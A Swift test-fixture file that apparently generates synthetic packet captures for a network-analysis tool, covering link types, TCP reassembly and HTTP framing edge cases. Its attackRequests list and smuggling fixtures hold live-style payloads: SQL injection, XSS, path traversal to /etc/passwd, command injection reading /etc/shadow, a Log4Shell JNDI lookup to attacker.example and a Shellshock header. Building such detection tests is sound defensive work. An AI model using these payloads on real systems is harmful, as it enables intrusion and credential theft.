import Capture
import NetworkTypes

/// The captures in `captures/`: one small, deterministic file per case the pipeline must
/// handle. `diffai synth fixtures` writes them; the tests check both the committed bytes and
/// what replay extracts from them.
public enum CaptureFixtures {
    public struct Fixture: Sendable {
        public let name: String
        public let summary: String
        public let build: @Sendable () -> [UInt8]
    }

    static let start = Timestamp(seconds: 1_700_000_000, microseconds: 0)
    static let client = Endpoint(address: IPAddress("10.0.0.1")!, port: 51000)
    static let server = Endpoint(address: IPAddress("10.0.0.2")!, port: 8080)

    static func get(_ target: String, host: String = "shop.example", extra: String = "") -> String {
        "GET \(target) HTTP/1.1\r\nHost: \(host)\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\(extra)\r\n"
    }

    static func ok(_ body: String = "hello", status: String = "200 OK") -> String {
        "HTTP/1.1 \(status)\r\nContent-Type: text/plain\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)"
    }

    /// A writer plus a conversation factory sharing it.
    final class Scene {
        let writer: CaptureFileWriter
        let builder: FrameBuilder
        var clock = CaptureFixtures.start
        var nextPort: UInt16 = 51000

        init(_ writer: CaptureFileWriter, _ builder: FrameBuilder) {
            self.writer = writer
            self.builder = builder
        }

        func conversation(client: Endpoint? = nil, server: Endpoint = CaptureFixtures.server,
                          clientISN: UInt32 = 1_000_000, serverISN: UInt32 = 5_000_000) -> TCPConversation {
            let clientEndpoint = client ?? Endpoint(address: CaptureFixtures.client.address, port: nextPort)
            if client == nil { nextPort += 1 }
            let conversation = TCPConversation(client: clientEndpoint, server: server, writer: writer, builder: builder,
                                               start: clock, clientISN: clientISN, serverISN: serverISN)
            return conversation
        }

        /// Moves the shared clock past a finished conversation.
        func after(_ conversation: TCPConversation) {
            clock = Timestamp(microseconds: conversation.clock.microseconds + 1000)
        }
    }

    static func simple(_ builder: FrameBuilder, format: CaptureFileWriter.Format = .pcap,
                       client: Endpoint = client, server: Endpoint = server, target: String) -> [UInt8] {
        let writer = CaptureFileWriter(format: format, linkType: builder.linkType)
        let scene = Scene(writer, builder)
        let c = scene.conversation(client: client, server: server)
        c.handshake()
        c.send(get(target), from: .client)
        c.send(ok(), from: .server)
        c.close()
        return writer.bytes
    }

    public static let all: [Fixture] = [
        Fixture(name: "basic-get.pcap", summary: "Ethernet, one GET and its response, clean close") {
            simple(FrameBuilder(linkType: .ethernet), target: "/index.php?q=madrid")
        },
        Fixture(name: "vlan-qinq.pcap", summary: "Ethernet with 802.1ad + 802.1Q tags") {
            simple(FrameBuilder(linkType: .ethernet, vlanTags: [(0x88A8, 100), (0x8100, 200)]), target: "/vlan")
        },
        Fixture(name: "loopback-null.pcap", summary: "BSD loopback (DLT_NULL, host byte order)") {
            simple(FrameBuilder(linkType: .null), target: "/null")
        },
        Fixture(name: "loop-ipv6.pcap", summary: "OpenBSD loopback (DLT_LOOP) carrying IPv6") {
            simple(FrameBuilder(linkType: .loop),
                   client: Endpoint(address: IPAddress("::1")!, port: 51000),
                   server: Endpoint(address: IPAddress("::1")!, port: 8080), target: "/loop6")
        },
        Fixture(name: "linux-sll.pcap", summary: "Linux cooked capture v1") {
            simple(FrameBuilder(linkType: .linuxSLL), target: "/sll")
        },
        Fixture(name: "linux-sll2.pcapng", summary: "Linux cooked capture v2 in a pcapng file") {
            simple(FrameBuilder(linkType: .linuxSLL2), format: .pcapng, target: "/sll2")
        },
        Fixture(name: "raw-ipv6-extensions.pcap", summary: "Raw IPv6 with hop-by-hop and destination-options headers") {
            let writer = CaptureFileWriter(linkType: .raw)
            let scene = Scene(writer, FrameBuilder(linkType: .raw))
            let c = scene.conversation(client: Endpoint(address: IPAddress("2001:db8::1")!, port: 40000),
                                       server: Endpoint(address: IPAddress("2001:db8::2")!, port: 80))
            c.ipv6Extensions = [(0, [1, 4, 0, 0, 0, 0]), (60, [1, 4, 0, 0, 0, 0])]
            c.handshake()
            c.send(get("/ipv6ext"), from: .client)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "ipv4-fragments.pcap", summary: "A request in out-of-order IP fragments; an overlapping-fragment datagram is dropped") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let a = scene.conversation()
            a.handshake()
            a.fragmentedSegment(from: .client, payload: Array(get("/fragmented?x=1").utf8), fragmentSize: 32, order: [2, 0, 3, 1])
            a.segment(from: .server, sequence: a.serverSequence, flags: .ack)
            a.send(ok(), from: .server)
            a.close()
            scene.after(a)
            // Overlapping fragments with different bytes: Linux discards the datagram, so must we.
            let b = scene.conversation()
            b.handshake()
            let evil = Array(get("/overlap-evil").utf8)
            let tcp = FrameBuilder.tcp(sourcePort: b.client.port, destinationPort: b.server.port, sequence: b.clientSequence,
                                       acknowledgment: b.serverSequence, flags: [.ack, .psh], payload: evil)
            let id = b.nextIdentification()
            b.rawIP(FrameBuilder.ipv4(source: b.client.address, destination: b.server.address, identification: id,
                                      moreFragments: true, fragmentOffset: 0, payload: Array(tcp[0..<40])))
            var overlapping = Array(tcp[24..<tcp.count])
            overlapping[0] ^= 0x20
            b.rawIP(FrameBuilder.ipv4(source: b.client.address, destination: b.server.address, identification: id,
                                      moreFragments: false, fragmentOffset: 24, payload: overlapping))
            b.send(get("/overlap-good"), from: .client)
            b.send(ok(), from: .server)
            b.close()
            return writer.bytes
        },
        Fixture(name: "tcp-out-of-order.pcap", summary: "Request segments delivered out of order") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            let request = Array(get("/reordered?name=value&other=thing").utf8)
            let size = (request.count + 3) / 4
            let base = c.clientSequence
            for index in [2, 0, 3, 1] {
                let lower = index * size, upper = min(request.count, lower + size)
                c.segment(from: .client, sequence: base &+ UInt32(lower), flags: [.ack, .psh], payload: Array(request[lower..<upper]))
            }
            c.advance(.client, by: request.count)
            c.segment(from: .server, sequence: c.serverSequence, flags: .ack)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "tcp-retransmission.pcap", summary: "Every client segment sent twice") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            let request = Array(get("/retransmitted").utf8)
            var offset = 0
            while offset < request.count {
                let piece = Array(request[offset..<min(request.count, offset + 20)])
                let sequence = c.clientSequence &+ UInt32(offset)
                c.segment(from: .client, sequence: sequence, flags: [.ack, .psh], payload: piece)
                c.segment(from: .client, sequence: sequence, flags: [.ack, .psh], payload: piece)
                offset += piece.count
            }
            c.advance(.client, by: request.count)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "tcp-overlap.pcap", summary: "Overlapping segments with different bytes (Linux policy)") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            let request = Array(overlapRequest.utf8)
            let base = c.clientSequence
            func send(_ range: Range<Int>, _ bytes: [UInt8]? = nil) {
                c.segment(from: .client, sequence: base &+ UInt32(range.lowerBound), flags: [.ack, .psh],
                          payload: bytes ?? Array(request[range]))
            }
            for step in overlapSteps { send(step.range, step.bytes.map { Array($0.utf8) }) }
            send(34..<request.count)
            c.advance(.client, by: request.count)
            c.segment(from: .server, sequence: c.serverSequence, flags: .ack)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "tcp-midstream.pcap", summary: "Capture starts mid-connection, inside a body") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.send("ue&b=2&c=3", from: .client)
            c.send("body of an earlier response\r\n", from: .server)
            c.send(get("/after-midstream"), from: .client)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "tcp-lost-segments.pcap", summary: "Lost request and lost body segment; the peer's ACKs reveal the gaps") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            c.send(get("/first"), from: .client)
            c.send(ok(), from: .server)
            c.send(get("/lost"), from: .client, dropping: [0])
            c.send(ok(), from: .server)
            c.send(get("/third"), from: .client)
            c.send(ok(), from: .server)
            let body = String(repeating: "a", count: 3000)
            c.send("POST /upload HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 3000\r\n\r\n" + body,
                   from: .client, segmentSize: 1000, dropping: [2])
            c.send(ok("stored"), from: .server)
            c.send(get("/fifth"), from: .client)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "tcp-close-reset.pcap", summary: "FIN close, RST close, and a forged RST that Linux would ignore") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let a = scene.conversation()
            a.handshake()
            a.send(get("/closed-by-fin"), from: .client)
            a.send(ok(), from: .server)
            a.close()
            scene.after(a)
            let b = scene.conversation()
            b.handshake()
            b.send(get("/closed-by-rst"), from: .client)
            b.reset(from: .server)
            scene.after(b)
            let c = scene.conversation()
            c.handshake()
            // Insertion attempt: a reset 1000 bytes off the expected sequence number.
            c.segment(from: .client, sequence: c.clientSequence &+ 1000, flags: [.rst, .ack])
            c.send(get("/after-forged-rst"), from: .client)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "tcp-port-reuse.pcap", summary: "The same 4-tuple used by two connections in a row") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let first = scene.conversation(client: client)
            first.handshake()
            first.send(get("/first-connection"), from: .client)
            first.send(ok(), from: .server)
            first.close()
            scene.after(first)
            let second = scene.conversation(client: client, clientISN: 9_000_000, serverISN: 7_000_000)
            second.handshake()
            second.send(get("/second-connection"), from: .client)
            second.send(ok(), from: .server)
            second.close()
            return writer.bytes
        },
        Fixture(name: "http-pipelining.pcap", summary: "Three pipelined requests in one segment, attack in the second") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            c.send(get("/one") + get("/two?id=1%27%20OR%20%271%27=%271") + get("/three"), from: .client)
            c.send(ok("1") + ok("22") + ok("333"), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "http-chunked.pcap", summary: "Chunked request with extension and trailer, chunked response, keep-alive") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            c.send("POST /upload HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: chunked\r\n\r\n"
                   + "5;name=value\r\nhello\r\n0006\r\n world\r\n0\r\nX-Checksum: 42\r\n\r\n", from: .client, segmentSize: 40)
            c.send("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\nA\r\n0123456789\r\n0\r\n\r\n", from: .server)
            c.send(get("/next"), from: .client)
            c.send("HTTP/1.1 304 Not Modified\r\nContent-Length: 100\r\n\r\n", from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "http-expect-continue.pcap", summary: "Expect: 100-continue accepted, then refused with 417") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            c.send("POST /form HTTP/1.1\r\nHost: shop.example\r\nExpect: 100-continue\r\nContent-Length: 11\r\n\r\n", from: .client)
            c.send("HTTP/1.1 100 Continue\r\n\r\n", from: .server)
            c.send("name=diffai", from: .client)
            c.send(ok("created", status: "201 Created"), from: .server)
            c.send("POST /big HTTP/1.1\r\nHost: shop.example\r\nExpect: 100-continue\r\nContent-Length: 100000\r\n\r\n", from: .client)
            c.send(ok("no", status: "417 Expectation Failed"), from: .server)
            c.send(get("/after-417"), from: .client)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "http-smuggling.pcap", summary: "CL+TE, duplicate and conflicting CL, obfuscated and invalid TE") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            c.send("POST /cl-te HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
                   + "3\r\nabc\r\n0\r\n\r\n", from: .client)
            c.send(ok(), from: .server)
            c.send("POST /dup-cl HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 3\r\nContent-Length: 3\r\n\r\nxyz", from: .client)
            c.send(ok(), from: .server)
            c.send("POST /tab-te HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding:\tchunked\r\n\r\n2\r\nok\r\n0\r\n\r\n", from: .client)
            c.send(ok(), from: .server)
            c.send("POST /xchunked HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\nabcde", from: .client)
            c.send(ok(), from: .server)
            c.send("POST /conflict HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 2\r\nContent-Length: 7\r\n\r\nhi", from: .client)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "http-header-tricks.pcap", summary: "Obsolete line folding, space before colon, bare LF, duplicate Host") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            c.send("GET /folded HTTP/1.1\r\nHost: shop.example\r\nX-Note: first\r\n  <script>alert(1)</script>\r\n\r\n", from: .client)
            c.send(ok(), from: .server)
            c.send("GET /colon HTTP/1.1\r\nHost : shop.example\r\n\r\n", from: .client)
            c.send(ok(), from: .server)
            c.send("GET /bare-lf HTTP/1.1\nHost: shop.example\nX-A: b\n\n", from: .client)
            c.send(ok(), from: .server)
            c.send("GET /two-hosts HTTP/1.1\r\nHost: shop.example\r\nHost: evil.example\r\n\r\n", from: .client)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "http10-close.pcap", summary: "HTTP/1.0 request, response delimited by close") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            c.send("GET /old HTTP/1.0\r\nUser-Agent: Lynx/2.8\r\n\r\n", from: .client)
            c.send("HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n<html>" + String(repeating: "x", count: 3000) + "</html>", from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "http-bodiless-responses.pcap", summary: "HEAD, 204 and 304 responses carry no body whatever their headers say") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            c.send("HEAD /head HTTP/1.1\r\nHost: shop.example\r\n\r\n", from: .client)
            c.send("HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n", from: .server)
            c.send(get("/no-content"), from: .client)
            c.send("HTTP/1.1 204 No Content\r\n\r\n", from: .server)
            c.send(get("/not-modified"), from: .client)
            c.send("HTTP/1.1 304 Not Modified\r\nContent-Length: 50\r\n\r\n", from: .server)
            c.send(get("/last"), from: .client)
            c.send(ok("ok"), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "mixed-ports.pcap", summary: "HTTP on ports 80 and 3000 found by content; TLS and SSH ignored") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let web = scene.conversation(server: Endpoint(address: server.address, port: 80))
            web.handshake()
            web.send(get("/port-80"), from: .client)
            web.send(ok(), from: .server)
            web.close()
            scene.after(web)
            let tls = scene.conversation(server: Endpoint(address: server.address, port: 443))
            tls.handshake()
            tls.send([0x16, 0x03, 0x01, 0x00, 0x2F, 0x01, 0x00, 0x00, 0x2B, 0x03, 0x03] + [UInt8](repeating: 0x42, count: 40), from: .client)
            tls.close()
            scene.after(tls)
            let ssh = scene.conversation(server: Endpoint(address: server.address, port: 22))
            ssh.handshake()
            ssh.send("SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n", from: .server)
            ssh.send("SSH-2.0-OpenSSH_9.2p1\r\n", from: .client)
            ssh.close()
            scene.after(ssh)
            let other = scene.conversation(server: Endpoint(address: server.address, port: 3000))
            other.handshake()
            other.send(get("/port-3000"), from: .client)
            other.send(ok(), from: .server)
            other.close()
            return writer.bytes
        },
        Fixture(name: "snaplen-cut.pcap", summary: "Captured with a 200-byte snaplen: cut payload becomes a gap") {
            let writer = CaptureFileWriter(linkType: .ethernet, snaplen: 200)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            c.send("GET /small HTTP/1.1\r\nHost: s\r\n\r\n", from: .client)
            c.send(ok(), from: .server)
            c.send("POST /upload HTTP/1.1\r\nHost: s\r\nContent-Length: 1000\r\n\r\n", from: .client)
            c.send(String(repeating: "b", count: 1000), from: .client)
            c.send(ok(), from: .server)
            c.send("GET /after-cut HTTP/1.1\r\nHost: s\r\n\r\n", from: .client)
            c.send(ok(), from: .server)
            c.close()
            return writer.bytes
        },
        Fixture(name: "http-attacks.pcap", summary: "Attacks in query, body, headers and framing, between benign requests") {
            let writer = CaptureFileWriter(linkType: .ethernet)
            let scene = Scene(writer, FrameBuilder(linkType: .ethernet))
            let c = scene.conversation()
            c.handshake()
            for request in attackRequests {
                c.send(request, from: .client, segmentSize: 200)
                c.send(ok(), from: .server)
            }
            c.close()
            scene.after(c)
            let scanner = scene.conversation(server: Endpoint(address: server.address, port: 80))
            scanner.handshake()
            scanner.send("GET /index.php?id=1 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n", from: .client)
            scanner.send(ok(), from: .server)
            scanner.close()
            return writer.bytes
        },
        Fixture(name: "truncated-file.pcap", summary: "A capture cut off in the middle of a packet record") {
            let full = simple(FrameBuilder(linkType: .ethernet), target: "/before-truncation")
            return Array(full.dropLast(30))
        },
        Fixture(name: "unknown-linktype.pcap", summary: "A link type diffai does not decode (USER0)") {
            let writer = CaptureFileWriter(linkType: .ethernet, linktypeOverride: 147)
            writer.add(frame: [UInt8](repeating: 0xAB, count: 64), at: start)
            return writer.bytes
        },
        Fixture(name: "not-a-capture.pcap", summary: "Text, not a capture file") {
            Array("this is not a capture file, just text\n".utf8)
        },
    ]

    static func post(_ target: String, contentType: String, body: String) -> String {
        "POST \(target) HTTP/1.1\r\nHost: shop.example\r\nContent-Type: \(contentType)\r\nContent-Length: \(body.utf8.count)\r\n\r\n" + body
    }

    static func chunked(_ target: String, contentType: String, pieces: [String]) -> String {
        var text = "POST \(target) HTTP/1.1\r\nHost: shop.example\r\nContent-Type: \(contentType)\r\nTransfer-Encoding: chunked\r\n\r\n"
        for piece in pieces { text += String(piece.utf8.count, radix: 16) + "\r\n" + piece + "\r\n" }
        return text + "0\r\n\r\n"
    }

    /// The requests of `http-attacks.pcap`, in order on one connection.
    public static let attackRequests: [String] = [
        get("/products?page=2&sort=price"),
        get("/items?id=1%20UNION%20SELECT%20password%20FROM%20users--"),
        // The script tag is split across chunks: only the de-chunked body shows it.
        chunked("/comment", contentType: "application/x-www-form-urlencoded", pieces: ["text=hello%3Cscri", "pt%3Ealert(1)%3C", "/script%3E"]),
        get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd"),
        post("/upload", contentType: "multipart/form-data; boundary=XyZ",
             body: "--XyZ\r\nContent-Disposition: form-data; name=\"host\"\r\n\r\n127.0.0.1; cat /etc/shadow\r\n"
                 + "--XyZ\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n1\r\n--XyZ--\r\n"),
        get("/search?q=caf%C3%A9+menu&lang=fr"),
        get("/api", extra: "X-Api-Version: ${jndi:ldap://attacker.example/a}\r\n"),
        get("/cgi-bin/status", extra: "Referer: () { :; }; /bin/bash -c 'id'\r\n"),
        "POST /smuggle HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        post("/api/login", contentType: "application/json", body: "{\"user\": \"admin' OR '1'='1\", \"password\": \"x\"}"),
        get("/about-us"),
    ]

    /// The request of `tcp-overlap.pcap` and the conflicting segments sent for it.
    public static let overlapRequest =
        "GET /p?v=0123456789abcdefghijklmnopqrstuvwxyz HTTP/1.1\r\nHost: shop.example\r\n\r\n"
    /// In send order: byte ranges of the request, with replacement bytes where they differ.
    public static let overlapSteps: [(range: Range<Int>, bytes: String?)] = [
        (0..<10, nil),          // in order, delivered
        (14..<20, "XXXXXX"),    // out of order, queued
        (10..<16, nil),         // in order: wins over the queued bytes at 14..<16; 16..<20 stay X
        (24..<30, "YYYYYY"),    // queued
        (22..<32, nil),         // starts earlier and covers 24..<30 entirely: replaces it
        (20..<22, nil),         // fills the hole; 22..<32 follows from the queue
        (28..<34, "ZZZZZZ"),    // 28..<32 already delivered and kept; 32..<34 is new: "ZZ"
    ]

    /// What a Linux receiver reads for `tcp-overlap.pcap`.
    public static var overlapExpected: String {
        var bytes = Array(overlapRequest.utf8)
        bytes.replaceSubrange(16..<20, with: Array("XXXX".utf8))
        bytes.replaceSubrange(32..<34, with: Array("ZZ".utf8))
        return String(decoding: bytes, as: UTF8.self)
    }
}
